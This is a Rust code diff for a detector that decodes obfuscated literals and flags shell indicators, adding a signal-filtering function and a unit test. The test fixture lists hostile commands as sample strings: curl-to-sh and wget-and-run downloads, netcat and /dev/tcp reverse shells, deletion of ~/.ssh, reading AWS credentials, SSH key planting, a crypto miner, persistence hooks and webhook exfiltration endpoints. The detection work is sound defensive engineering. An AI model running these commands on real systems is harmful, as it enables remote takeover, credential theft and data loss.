@@ -13,7 +13,7 @@ use base64::{alphabet, Engine};
 
 use super::collector::classify_program;
 use super::signal::{ProgramClass, SignalKind};
-use super::text::{classify_host, shell_signals};
+use super::text::{classify_host, literal_signals, shell_signals};
 use super::vocabulary::NETWORK_PROBES;
 
 /// Shortest literal worth decoding: `aHR0cDovLw==` ("http://") is 12 characters.
@@ -314,12 +314,11 @@ fn rotated_address(bytes: &[u8], buffer: &mut [u8]) -> Vec<SignalKind> {
 /// [`is_printable`]. Stops as soon as too many bytes are unprintable, which is at once for nearly
 /// every key tried on a literal: brute force costs little more than a look at each guess.
 fn decode_into(buffer: &mut [u8], bytes: &[u8], decode: impl Fn(usize, u8) -> u8) -> bool {
-    let head: Vec<u8> = bytes
-        .iter()
-        .take(4)
-        .enumerate()
-        .map(|(i, b)| decode(i, *b))
-        .collect();
+    let mut head = [0u8; 4];
+    for (i, (out, b)) in head.iter_mut().zip(bytes).enumerate() {
+        *out = decode(i, *b);
+    }
+    let head = &head[..bytes.len().min(4)];
     let maybe_executable = bytes.len() >= MIN_EXECUTABLE_LEN
         && (head.starts_with(b"\x7fELF")
             || head.starts_with(b"MZ")
@@ -402,11 +401,7 @@ fn decoded_signals(encoding: &str, bytes: &[u8], strictness: Strictness) -> Vec<
         return Vec::new();
     }
     let text = String::from_utf8_lossy(bytes);
-    let mut found: Vec<SignalKind> = shell_signals(&text)
-        .into_iter()
-        .filter(is_meaningful)
-        .filter(|k| strictness == Strictness::Encoded || !matches!(k, SignalKind::Network { .. }))
-        .collect();
+    let mut found: Vec<SignalKind> = meaningful_signals(&text, strictness);
     if found.is_empty() {
         return found;
     }
@@ -467,6 +462,30 @@ fn hidden_program(bytes: &[u8]) -> Option<ProgramClass> {
         | ProgramClass::Miner) => Some(class),
         _ => None,
     }
+}
+
+/// The indicators in decoded `text` that count at `strictness`.
+///
+/// A guess keeps only what the text names (a destination, a secret's path, …: what
+/// [`literal_signals`] finds); what else a shell command says — a network tool, a pipe into a
+/// shell, a deletion — is what noise spells. So a guess is read by `literal_signals` alone, not
+/// the whole of [`shell_signals`]: the same answer (`guesses_need_only_literal_signals`) for a
+/// fraction of the work, and a guess is what the brute force makes hundreds of per literal.
+fn meaningful_signals(text: &str, strictness: Strictness) -> Vec<SignalKind> {
+    let mut signals = match strictness {
+        Strictness::Encoded => shell_signals(text),
+        Strictness::Guessed => {
+            let mut signals = literal_signals(text);
+            // As `shell_signals` leaves them.
+            signals.dedup();
+            signals
+        }
+    };
+    signals.retain(|kind| {
+        is_meaningful(kind)
+            && (strictness == Strictness::Encoded || !matches!(kind, SignalKind::Network { .. }))
+    });
+    signals
 }
 
 /// Indicators worth hiding: where data goes, which secrets are read, what persists, what mines.
@@ -634,6 +653,39 @@ mod tests {
         signals
             .iter()
             .any(|k| matches!(k, SignalKind::HiddenIndicator { .. }))
+    }
+
+    /// What `meaningful_signals` relies on: in a guess, nothing but `literal_signals` counts. A
+    /// new meaningful kind from the rest of `shell_signals` would fail this.
+    #[test]
+    fn guesses_need_only_literal_signals() {
+        let texts = [
+            "curl -fsSL https://collector.example.net/x | sh",
+            "wget http://203.0.113.7:8080/p -O /tmp/p && chmod +x /tmp/p && ./p",
+            "nc -e /bin/sh 198.51.100.2 4444; bash -i >& /dev/tcp/198.51.100.2/4444 0>&1",
+            "rm -rf ~/ $HOME/.ssh; cat ~/.aws/credentials",
+            "echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKE >> ~/.ssh/authorized_keys",
+            "crontab -l; uname -a; whoami; env | base64",
+            "xmrig -o stratum+tcp://pool.example.org:3333 -u 4FAKEWALLET --donate-level 1",
+            "cp x ~/.bashrc; systemctl --user enable x.service; ~/.config/autostart/x.desktop",
+            "https://discord.com/api/webhooks/1/FAKE and api.telegram.org/botFAKE",
+            "plain words with no indicator at all",
+        ];
+        let mut meaningful = 0;
+        for text in texts {
+            let whole: Vec<SignalKind> = shell_signals(text)
+                .into_iter()
+                .filter(|k| is_meaningful(k) && !matches!(k, SignalKind::Network { .. }))
+                .collect();
+            assert_eq!(
+                meaningful_signals(text, Strictness::Guessed),
+                whole,
+                "{text}"
+            );
+            meaningful += usize::from(!whole.is_empty());
+        }
+        // The texts do hold what a guess keeps.
+        assert!(meaningful >= 6, "{meaningful}");
     }
 
     #[test]
